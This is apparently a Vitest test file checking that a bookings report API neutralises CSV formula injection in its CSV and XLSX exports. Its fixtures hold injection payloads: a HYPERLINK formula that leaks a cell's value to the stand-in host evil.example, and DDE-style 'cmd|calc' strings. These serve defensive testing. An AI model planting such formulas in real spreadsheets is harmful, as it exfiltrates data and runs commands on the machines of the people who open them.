import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newBooking, newCustomer, type TestTeam } from '../bookings/test-fixtures';
import { startRestServer, type RestServer } from '../testing/rest-server';

let api: RestServer;
let team: TestTeam;

// What a spreadsheet program would run as a formula (OWASP "CSV Injection"), as a client's name and booking titles.
const CLIENT = '=HYPERLINK("http://evil.example/?leak="&A1,"Clique")';
const TITLES = ["+cmd|' /C calc'!A0", '-2+3+cmd|calc', '@SUM(1+1)*cmd|calc', '\t=1+1', '\r=1+1'];

beforeAll(async () => {
  api = await startRestServer();
  team = await api.team({ name: 'Formula Agency' });
  const client = await newCustomer(api, team, CLIENT);
  for (const title of TITLES) {
    const booking = await newBooking(api, team, client.id, { title: 'placeholder' });
    // Written as stored: the API trims a leading tab, text from elsewhere (a supplier) may keep it.
    await api.db.$executeRawUnsafe(`UPDATE bookings SET title = $2 WHERE id = $1::uuid`, booking.id, title);
  }
  // A booking sold below its net price: a negative markup is a number, and stays one.
  await api.db.$executeRawUnsafe(`UPDATE bookings SET markup_cents = -1250 WHERE team_id = $1::uuid AND title = $2`, team.id, TITLES[0]);
});
afterAll(async () => {
  await api?.close();
});

async function download(format: 'csv' | 'xlsx') {
  const res = await fetch(`${api.url}/api/v1/reports/bookings?format=${format}`, { headers: { authorization: `Bearer ${team.key}` } });
  expect(res.status).toBe(200);
  return Buffer.from(await res.arrayBuffer());
}

describe('GET /api/v1/reports/bookings: cells a spreadsheet would run as formulas', () => {
  it('CSV: a cell starting with = + - @, tab or carriage return is prefixed with a single quote; a negative amount stays a number', async () => {
    const rows = parse<Record<string, string>>(await download('csv'), { bom: true, columns: true, relax_quotes: true });
    expect(rows.map((r) => r.Cliente)).toEqual(TITLES.map(() => `'${CLIENT}`));
    expect(rows.map((r) => r['Título']).sort()).toEqual(TITLES.map((t) => `'${t}`).sort());
    const belowNet = rows.find((r) => r['Título'] === `'${TITLES[0]}`)!;
    expect(belowNet.Markup).toBe('-12.50');
    expect(belowNet.Total).toBe('1234.56');
  });

  it('XLSX: the same text is a string cell (never a formula) and the negative amount a number', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await download('xlsx')) as never);
    const sheet = workbook.getWorksheet('reservas')!;
    const headers = (sheet.getRow(1).values as string[]).slice(1);
    const column = (name: string) => headers.indexOf(name) + 1;
    const titles: unknown[] = [];
    for (let r = 2; r <= sheet.rowCount; r++) {
      const row = sheet.getRow(r);
      for (const name of ['Título', 'Cliente']) {
        const cell = row.getCell(column(name));
        expect(cell.type, `${name} row ${r}`).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
      }
      expect(row.getCell(column('Cliente')).value).toBe(CLIENT);
      titles.push(row.getCell(column('Título')).value);
      if (row.getCell(column('Título')).value === TITLES[0]) expect(row.getCell(column('Markup')).value).toBe(-12.5);
    }
    // XML reads a carriage return back as a line feed.
    expect(titles.sort()).toEqual(TITLES.map((t) => t.replace('\r', '\n')).sort());
  });
});
